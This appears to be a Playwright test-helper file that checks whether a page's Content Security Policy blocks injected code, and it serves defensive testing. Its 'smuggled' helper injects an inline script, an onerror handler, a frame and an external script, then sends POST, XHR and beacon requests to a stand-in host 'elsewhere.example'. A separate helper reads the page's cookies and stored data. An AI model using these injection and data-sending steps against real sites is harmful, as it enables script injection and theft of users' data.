import type { Page, Request } from "playwright-core";

/** What a page tried that its policy forbids: "script-src-elem inline". Ask for it before the page is opened. */
export async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const forbidden: string[] = [];
    Object.assign(window, { forbidden });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => forbidden.push(`${effectiveDirective} ${blockedURI}`));
  });
  return () => page.evaluate(() => (window as unknown as { forbidden: string[] }).forbidden);
}

/** Where the page's requests that its policy did not stop went; those that it stopped end with csp. Ask for it before. */
export function watchRequests(page: Page): () => string[] {
  const asked: Request[] = [];
  page.on("request", (request) => void asked.push(request));
  return () => asked.flatMap((request) => (request.failure()?.errorText === "csp" ? [] : [request.url()]));
}

/** What comes of a text that is to become code; a test's own code may do what the page may not, so it is done later. */
export const evaluated = (page: Page): Promise<string[]> =>
  page.evaluate(async () => {
    await new Promise((done) => setTimeout(done));
    return [() => new Function("return 1")() as unknown, () => (0, eval)("1") as unknown].map((run) => {
      try {
        return String(run());
      } catch (error) {
        return (error as Error).name;
      }
    });
  });

const ELSEWHERE = "https://elsewhere.example";

/** What becomes of code that somebody smuggles into the page: only what went through is named. */
export const smuggled = (page: Page): Promise<string[]> =>
  page.evaluate(async (elsewhere) => {
    const through: string[] = [];
    Object.assign(window, { smuggle: () => void through.push("inline script or handler") });
    const script = document.createElement("script");
    script.textContent = "smuggle()";
    const image = document.createElement("img");
    image.setAttribute("onerror", "smuggle()");
    image.src = `${elsewhere}/pixel.png`;
    const frame = document.createElement("iframe");
    frame.src = `${elsewhere}/`;
    const other = document.createElement("script");
    other.src = `${elsewhere}/code.js`;
    document.body.append(script, image, frame, other);
    await fetch(`${elsewhere}/take?this`, { method: "POST", body: "lots", mode: "no-cors" }).then(() => through.push("fetch"), () => undefined);
    await new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onload = () => done(through.push("request"));
      request.onerror = () => done(null);
      try {
        request.open("GET", `${elsewhere}/`);
        request.send();
      } catch {
        done(null);
      }
    });
    navigator.sendBeacon(`${elsewhere}/beacon`, "lots");
    await new Promise((done) => setTimeout(done, 300));
    [script, image, frame, other].forEach((one) => one.remove());
    return through;
  }, ELSEWHERE);

/** Everything that the page keeps outside the workbook, as one text. */
export const keptInBrowser = (page: Page): Promise<string> =>
  page.evaluate(async () => {
    const databases = (await indexedDB.databases()).map(({ name }) => name);
    const caches = await window.caches?.keys().catch(() => []);
    return JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage }, cookies: document.cookie, databases, caches: caches ?? [] });
  });
